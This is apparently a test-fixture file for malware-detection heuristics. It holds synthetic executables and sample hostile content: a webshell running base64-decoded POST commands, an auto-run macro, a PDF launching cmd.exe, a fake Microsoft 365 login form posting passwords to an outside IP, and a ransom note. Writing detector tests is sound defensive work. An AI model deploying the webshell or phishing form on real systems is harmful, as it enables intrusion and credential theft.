# SPDX-License-Identifier: Apache-2.0
"""Samples for the heuristics: what each must find, and near misses.

CASES has a rule's name, files that it must find and files that it must not; a
file is a name and its bytes. Nothing here does what it looks like.
"""
import random
import struct


def noise(n, seed=8):
    return random.Random(seed).randbytes(n)


# ---- programs ----

def pe(entry=0x1000, raw_at=0x200, code=bytes(0x200), flags=0x60000020,
       image=0x2000, subsystem=3):
    """A 64-bit PE with one section."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 64)
    size = len(code)
    optional = struct.pack(
        "<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", 0x20B, 14, 0, size, 0, 0, entry,
        0x1000, 0x140000000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, image, 0x200,
        0, subsystem, 0, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + bytes(128)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, len(optional), 0x22)
    section = struct.pack("<8sIIIIIIHHI", b".text", size, 0x1000, size, raw_at,
                          0, 0, 0, 0, flags)
    start = head + b"PE\0\0" + coff + optional + section
    return start + bytes(0x200 - len(start)) + code


def elf(body, entry=0x400078, sections_at=0, n_sections=0, kind=2):
    """A 64-bit ELF with one segment and no sections."""
    size = 120 + len(body)
    head = struct.pack("<4sBBBB8xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, kind,
                       62, 1, entry, 64, sections_at, 0, 64, 56, 1, 64,
                       n_sections, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size,
                          4096)
    return head + segment + body


def upx(first=b"UPX!", last=b"UPX!"):
    info = bytes(4) + first + bytes(4)
    text = b"$Info: This file is packed with the UPX executable packer $"
    return elf(info + noise(8000) + text + last + bytes(32))


# ---- documents and pages ----

VBA = (b'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n'
       b'Set o = CreateObject("MSXML2.XMLHTTP")\r\no.Open "GET", u\r\n'
       b"End Sub\r\n")

PDF = (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
       b"2 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>\n"
       b"endobj\n%%EOF\n")

PAGE = (b"<html><head><title>Sign in - Microsoft 365</title></head><body>"
        b'<form method="post" action="https://192.0.2.7/a/next.php">'
        b'<input type="email"><input type="password" name="p"></form>'
        b"</body></html>")

NOTE = (b"All your files have been encrypted and stolen!\n"
        b"Payment in bitcoin only. Download Tor Browser and open\n"
        b"http://example.onion, enter your personal ID 0815.\n"
        b"Our decryption tool costs 1000. You have 72 hours.\n"
        b"Do not rename files. We decrypt one file as a proof.\n")

# ---- scripts ----

SHELL = (b"<?php\n@error_reporting(0); @set_time_limit(0);\n"
         b"if (isset($_POST['cmd'])) { echo '<pre>';\n"
         b"  system(base64_decode($_POST['cmd'])); }\n"
         b"move_uploaded_file($_FILES['f']['tmp_name'], $to);\n"
         b"echo php_uname(); chmod($to, 0755); ?>")

CASES = [
    ("Heuristic_Any_NameDouble_A",
     [("invoice.pdf.exe", b"a"), ("photo.JPG .scr", b"a"),
      ("order.docx.js", b"a")],
     [("invoice.pdf.txt", b"a"), ("setup.exe", b"a"), ("page.html.js", b"a"),
      ("my.text.exe", b"a")]),
    ("Heuristic_Any_NameSpaces_A",
     [("invoice.pdf" + " " * 40 + ".exe", b"a")],
     [("invoice.pdf   .exe", b"a"), ("a" + " " * 40 + ".pdf", b"a")]),
    ("Heuristic_Any_NameTurned_A",
     [("annex\u202excod.exe", b"a")],
     [("annex\u200fxcod.exe", b"a"), ("annex-xcod.exe", b"a")]),
    ("Heuristic_Windows_PeHeaders_A",
     [("entry", pe(entry=0x9000)), ("raw", pe(raw_at=0x20000)),
      ("image", pe(image=0x1000))],
     [("good", pe()), ("library", pe(entry=0)),
      ("driver", pe(entry=0x9000, subsystem=1))]),
    ("Heuristic_Windows_PePacked_A",
     [("packed", pe(code=noise(0x4000), image=0x5000))],
     [("plain", pe(code=b"\x48\x89\xc3\x90" * 0x1000, image=0x5000)),
      ("data", pe(code=noise(0x4000), flags=0x40000040, image=0x5000))]),
    ("Heuristic_Linux_ElfHeaders_A",
     [("table", elf(b"a" * 200, sections_at=9000, n_sections=9)),
      ("entry", elf(b"a" * 200, entry=0x10))],
     [("good", elf(b"a" * 200)),
      ("library", elf(b"a" * 200, entry=0x10, kind=3))]),
    ("Heuristic_Linux_ElfUpxDamaged_A",
     [("first", upx(first=b"YTS\x99")), ("both", upx(b"abcd", b"efgh"))],
     [("whole", upx()), ("plain", elf(b"text " * 2000))]),
    ("Heuristic_Office_MacroAutoRun_A",
     [("macro.bas", VBA), ("run.bas", VBA.replace(
         b'Set o = CreateObject("MSXML2.XMLHTTP")', b'x = Shell("a.exe", 0)'))],
     [("called.bas", VBA.replace(b"Document_Open", b"Fetch_Rates")),
      ("harmless.bas", VBA.replace(b"MSXML2.XMLHTTP", b"Excel.Sheet"))]),
    ("Heuristic_PDF_Launch_A",
     [("launch.pdf", PDF),
      ("export.pdf", b"%PDF-1.4\n1 0 obj << /JS (this.exportDataObject({"
                     b"cName: 'a', nLaunch: 2})) >>\nendobj\n")],
     [("goto.pdf", PDF.replace(b"/Launch", b"/GoTo")),
      ("button.pdf", PDF.replace(b"/OpenAction", b"/Button"))]),
    ("Heuristic_PHP_WebshellScore_A",
     [("shell.php", SHELL)],
     [("upload.php", SHELL.replace(b"system(base64_decode($_POST['cmd']))",
                                   b"print($_POST['cmd'])")),
      ("run.php", SHELL.replace(b"$_POST", b"$argv"))]),
    ("Heuristic_HTML_CredentialForm_A",
     [("login.html", PAGE)],
     [("own.html", PAGE.replace(b"https://192.0.2.7", b"")),
      ("other.html", PAGE.replace(b"Microsoft 365", b"Example")),
      ("search.html", PAGE.replace(b'type="password"', b'type="text"'))]),
    ("Heuristic_Any_RansomNote_A",
     [("README.txt", NOTE)],
     [("news.txt", NOTE.replace(b"All your files have been encrypted and "
                                b"stolen!", b"A hospital was attacked.")),
      ("manual.txt", NOTE.replace(b"bitcoin", b"cash")
       .replace(b"Payment", b"Sent").replace(b"onion", b"com")
       .replace(b"Tor Browser", b"a browser")
       .replace(b"one file as a proof", b"it"))]),
]
